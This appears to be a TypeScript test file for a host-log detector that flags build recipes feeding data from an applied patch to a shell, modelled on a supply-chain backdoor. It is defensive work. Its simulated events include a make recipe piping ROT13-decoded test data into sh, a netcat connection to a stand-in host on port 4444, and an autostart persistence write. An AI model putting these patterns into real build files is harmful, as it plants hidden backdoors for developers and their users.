import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, MINUTE } from './host-log.test-support.ts';
import { atMostAt, factorsOf, firesAt, scanLog } from './stories.test-support.ts';

/** What git am took in and make builds is no run attachment, unless data among it become a program on the way. */

const OUT = '203.0.113.67';
const CWD = '/home/dev/src';

/** A developer takes in a patch that touches `file`, and builds. */
function built(file: string): { log: HostLog; make: Process } {
  const log = new HostLog();
  log.deliver({ to: 'dev', unseen: true });
  log.wait(MINUTE);
  const path = '/home/dev/Downloads/0001.patch';
  log.desktop('dev').run('/usr/lib/thunderbird/thunderbird').write(path);
  log.wait(MINUTE);
  const shell = log.shell('dev');
  shell.run(`/usr/bin/git am ${path}`, { cwd: CWD }).read(path).write(`${CWD}/Makefile`).write(`${CWD}/${file}`);
  log.wait(MINUTE);
  return { log, make: shell.run('/usr/bin/make check', { cwd: CWD }).read(`${CWD}/Makefile`) };
}

/** A recipe feeds the file to a shell over a pipeline. */
function fed(make: Process, file: string): Process {
  const line = make.run(['/bin/sh', '-c', `tr a-z n-za-m < ${file} | sh`]);
  const [tr, shell] = line.pipeline('/usr/bin/tr a-z n-za-m', '/bin/sh');
  assert.ok(tr && shell);
  tr.read(`${CWD}/${file}`);
  return shell;
}

test('data of a patch that a recipe feeds to a shell, which connects out', async () => {
  const { log, make } = built('tests/broken.lzma');
  fed(make, 'tests/broken.lzma').run('/usr/bin/nc drop.example.net 4444').connect(OUT, 4444);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  assert.ok(factorsOf(alert).includes('data that was taken in is fed to an interpreter'));
  const runs = alert.steps.filter(step => step.kind === 'content.executed');
  const link = alert.links.find(({ to }) => to.startsWith('network.connected'));
  assert.equal(link?.from, runs.at(-1)?.id, 'the connection hangs on the run that it descends from');
});

test('data that become a program which stays, though nothing connects', async () => {
  const { log, make } = built('tests/broken.lzma');
  fed(make, 'tests/broken.lzma')
    .run('/usr/bin/tee .config/autostart/x.desktop')
    .write('/home/dev/.config/autostart/x.desktop');
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  assert.ok(factorsOf(alert).includes('data that was taken in is fed to an interpreter'));
});

test('nothing follows: tests work on their data', async () => {
  const { log, make } = built('tests/broken.lzma');
  fed(make, 'tests/broken.lzma').run('/usr/bin/wc -c');
  atMostAt(await scanLog(log), 'informational');
});

for (const file of ['gen.sh', 'gen.sh.in'])
  test(`code that was taken in is code: ${file}`, async () => {
    const { log, make } = built(file);
    fed(make, file).run('/usr/bin/curl -sO https://static.example.com/x').connect(OUT, 443);
    atMostAt(await scanLog(log), 'low');
  });
